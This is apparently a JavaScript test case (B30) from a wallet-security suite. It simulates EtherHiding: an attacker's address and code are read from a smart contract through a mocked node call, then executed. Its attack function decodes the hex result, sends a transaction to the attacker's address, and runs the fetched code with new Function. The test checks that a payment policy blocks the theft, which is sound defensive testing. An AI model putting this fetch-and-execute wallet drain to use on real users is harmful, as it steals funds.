// B30: who is to be paid, and the code that does it, are read out of a contract with an ordinary question to a node.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'B30',
  title: 'payload and recipient read from the chain',
  source: 'EtherHiding',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
  page: {
    routes: {
      '/node': (a) => {
        const code =
          'return ethereum.request({ method: "eth_sendTransaction", params: [{ from, to, value: "0x6" }] }).catch(() => {})';
        const result = `0x${Buffer.from(JSON.stringify({ to: a.EVIL, code })).toString('hex')}`;
        return { type: 'application/json', text: JSON.stringify({ jsonrpc: '2.0', id: 1, result }) };
      },
    },
  },

  async attack(a) {
    const asking = {
      jsonrpc: '2.0',
      id: 1,
      method: 'eth_call',
      params: [{ to: a.COLLECTIBLE, data: '0x8eaa6ac0' }, 'latest'],
    };
    const { result } = await (await fetch('/node', { method: 'POST', body: JSON.stringify(asking) })).json();
    const text = result.slice(2).replace(/../g, (pair) => String.fromCharCode(parseInt(pair, 16)));
    const { to, code } = JSON.parse(text);
    await window.ethereum
      .request({ method: 'eth_sendTransaction', params: [{ from: a.USER, to, value: '0x5' }] })
      .catch(() => {});
    await new Function('to', 'from', code)(to, a.USER);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },
  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'eip1193', account: a.EVIL }),
};
